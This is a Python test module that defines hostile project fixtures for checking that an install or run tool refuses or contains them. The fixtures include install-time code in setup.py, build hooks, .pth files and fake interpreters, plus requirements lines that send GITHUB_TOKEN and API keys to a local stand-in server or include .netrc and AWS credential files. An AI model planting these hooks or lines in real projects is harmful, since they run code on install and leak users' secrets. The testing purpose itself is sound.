"""Projects that want code to run, or a secret to leave, while they are installed."""

from functools import partial
from pathlib import Path

from tests.hostile.probing import adder_with
from tests.hostile.project import Project

_REFUSED = ("fail", "inconclusive", "stopped")
_REACHES = """
import os, socket
for path in ("%%BASE%%/drop/{name}", "%%BASE%%/precious", "/usr/planted-%%MARK%%"):
    try:
        open(path, "a").write("hostile")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", %%PORT4%%), 3)
except OSError:
    pass
"""
_SETUP = (
    _REACHES.format(name="setup")
    + "from setuptools import setup\nsetup(name='evil', version='1')\n"
)


def _required(
    name: str,
    about: str,
    lines: str | bytes,
    *,
    says: str = "",
    files: dict[str, str] | None = None,
) -> Project:
    """The good adder with a requirements.txt that must be refused."""
    return adder_with(
        name,
        about,
        "",
        family="install",
        expect=_REFUSED,
        says=says,
        files={"requirements.txt": lines, **(files or {})},
    )


_good = partial(adder_with, family="install")


def _link(project: Path) -> None:
    (project / "requirements.txt").symlink_to("../home/.netrc")


def _environments(project: Path) -> None:
    """Environments that somebody may take for the project's own."""
    for name in (".venv", "venv", "env"):
        (project / name / "bin").mkdir(parents=True)
        (project / name / "pyvenv.cfg").write_text("home = /usr/bin\nversion_info = 3.11\n")
        packages = project / name / "lib/python3.11/site-packages"
        packages.mkdir(parents=True)
        touch = f"import os; open({str(project.parent / 'drop' / name)!r}, 'w')\n"
        (packages / "evil.pth").write_text(touch)
        for program in ("python", "python3", "uv", "pip", "pytest"):
            path = project / name / "bin" / program
            path.write_text(f"#!/bin/sh\ntouch {project.parent}/drop/{program}\n")
            path.chmod(0o755)


PROJECTS: tuple[Project, ...] = (
    _required(
        "url",
        "a package from a server of one's own",
        "evil @ http://127.0.0.1:%%PORT4%%/evil-1.0-py3-none-any.whl\n"
        "http://127.0.0.1:%%PORT4%%/evil-1.0.tar.gz\n"
        "evil @ git+http://127.0.0.1:%%PORT4%%/evil.git\n",
        says="requirements.txt line 1",
    ),
    _required(
        "path",
        "a package from the tree, whose build would run code",
        "./evil\nfile://%%BASE%%/project/evil\nevil @ file://%%BASE%%/project/evil\n"
        "%%BASE%%/project/evil\n../home\n",
        says="requirements.txt line 1",
        files={"evil/setup.py": _SETUP},
    ),
    _required(
        "editable",
        "the project itself, editable: uv runs its setup.py even with --no-build",
        "-e .\n--editable ./evil\n-e%%BASE%%/project\n",
        says="requirements.txt line 1",
        files={"setup.py": _SETUP, "evil/setup.py": _SETUP},
    ),
    _required(
        "index",
        "another index, another place to look, other options",
        "--index-url http://127.0.0.1:%%PORT4%%/simple\n--extra-index-url=http://[::1]:%%PORT6%%/\n"
        "-i http://127.0.0.1:%%PORT4%%/\n--find-links http://127.0.0.1:%%PORT4%%/\n"
        "--trusted-host 127.0.0.1\n--no-binary :all:\n--pre\npackaging\n",
        says="requirements.txt line 1",
    ),
    _required(
        "other-files",
        "includes files of the host, whose text an error message would quote",
        "-r %%HOME%%/.netrc\n--requirement=../home/.env\n-c %%OUTSIDE%%\n"
        "--constraint ~/.aws/credentials\n",
        says="requirements.txt line 1",
    ),
    _required(
        "variables",
        "variables of the environment in a requirement",
        "packaging @ http://127.0.0.1:%%PORT4%%/${GITHUB_TOKEN}\n"
        "--index-url http://127.0.0.1:%%PORT4%%/${ANTHROPIC_API_KEY}\n${GITHUB_TOKEN}\n"
        "packaging==${DATABASE_URL}\n",
        says="requirements.txt line",
    ),
    _required(
        "made-up",
        "a package that a model made up",
        "flask-orchestrated-toolbox-%%MARK%%==1.2.3\n",
        says="flask-orchestrated-toolbox",
    ),
    _required(
        "wrong-version",
        "a well-known package in a version that there is not",
        "packaging==9999.1\n",
        says="packaging",
    ),
    _required(
        "typosquat",
        "a name one letter from a well-known one",
        "reqeusts\n",
        says="reqeusts",
    ),
    _required(
        "source-only",
        "a package without a wheel, whose build would run code",
        "docopt==0.6.2\n",
        says="docopt",
    ),
    _required(
        "control-characters",
        "lines with control characters, line separators, and letters that look like others",
        "packaging\x1b[2K\x1b[1A\npack\x00aging\npackaging\u2028-e .\n\u202egnigakcap\n"
        "packaging\r-e .\npackaging\x0b--index-url http://127.0.0.1:%%PORT4%%\n"
        "\u0440\u0430ckaging\n\uff30ackaging\n",
        says="requirements.txt line",
        files={"setup.py": _SETUP},
    ),
    _required(
        "continued-lines",
        "an option behind a line that goes on, and behind a comment",
        "packaging \\\n--index-url http://127.0.0.1:%%PORT4%%/\n"
        "packaging ; python_version > '3' --hash=sha256:00 --config-settings x=y\n"
        "packaging # -e .\\\n-e .\n",
        says="requirements.txt line",
        files={"setup.py": _SETUP},
    ),
    _required(
        "thousand-lines",
        "a thousand requirements",
        "".join(f"packaging>={major}.{minor}\n" for major in range(10) for minor in range(100)),
        says="requirements",
    ),
    _required(
        "endless-line",
        "a requirement of ten megabytes, and one that is no text",
        b"packaging>=1" + b".0" * 5_000_000 + b"\n\xff\xfe\x00packaging\n",
        says="requirements.txt line 1",
    ),
    _good(
        "requirements-are-a-link",
        "the requirements are a link to a secret, which an error message would quote",
        "",
        plant=_link,
        expect=("pass", *_REFUSED),
    ),
    _good(
        "build-hooks",
        "everything that runs when a project is built or installed lies in it; nothing installs it",
        "",
        files={
            "setup.py": _SETUP,
            "setup.cfg": "[metadata]\nname = evil\n[options]\nsetup_requires = evil\n",
            "pyproject.toml": (
                '[build-system]\nrequires = ["evil @ http://127.0.0.1:%%PORT4%%/evil.whl"]\n'
                'build-backend = "evil_build"\nbackend-path = ["."]\n'
                '[project]\nname = "evil"\nversion = "1"\n'
            ),
            "evil_build.py": _REACHES.format(name="backend"),
            "MANIFEST.in": "include *\n",
            "Makefile": "all:\n\ttouch %%BASE%%/drop/make\n",
            "noxfile.py": _REACHES.format(name="nox"),
            "tox.ini": "[testenv]\ncommands = touch %%BASE%%/drop/tox\n",
        },
        expect=("pass", "fail", "inconclusive"),
    ),
    _good(
        "settings-of-uv",
        "settings by which the tree would choose the index, the Python and the packages",
        "",
        files={
            "requirements.txt": "packaging\n",
            "uv.toml": 'index-url = "http://127.0.0.1:%%PORT4%%/simple"\nno-build = false\n',
            "pip.conf": "[global]\nindex-url = http://127.0.0.1:%%PORT4%%/simple\n",
            ".python-version": "2.7\n",
            ".env": "UV_INDEX_URL=http://127.0.0.1:%%PORT4%%/simple\n",
            "constraints.txt": "packaging==9999\n",
            "uv.lock": "version = 1\n",
            "pyproject.toml": (
                '[project]\nname = "adder"\nversion = "1"\ndependencies = ["evil"]\n'
                '[tool.uv]\nindex-url = "http://127.0.0.1:%%PORT4%%/simple"\n'
                '[tool.uv.sources]\npackaging = { path = "evil", editable = true }\n'
            ),
            "evil/setup.py": _SETUP,
        },
        expect=("pass",),
    ),
    _good(
        "environments-in-the-tree",
        "the tree brings environments whose python, uv and .pth files are its own",
        "",
        plant=_environments,
        expect=("pass", "fail", "inconclusive"),
    ),
    _good(
        "start-up-modules",
        "modules that a Python in the project's folder would import at its start",
        "",
        files={
            name: _REACHES.format(name=name) + "raise SystemExit(0)\n"
            for name in (
                *("sitecustomize.py", "usercustomize.py", "tarfile.py", "json.py", "packaging.py"),
                *("click.py", "pydantic.py", "ruff.py", "uv.py"),
            )
        },
        expect=("pass", "fail", "inconclusive"),
    ),
)
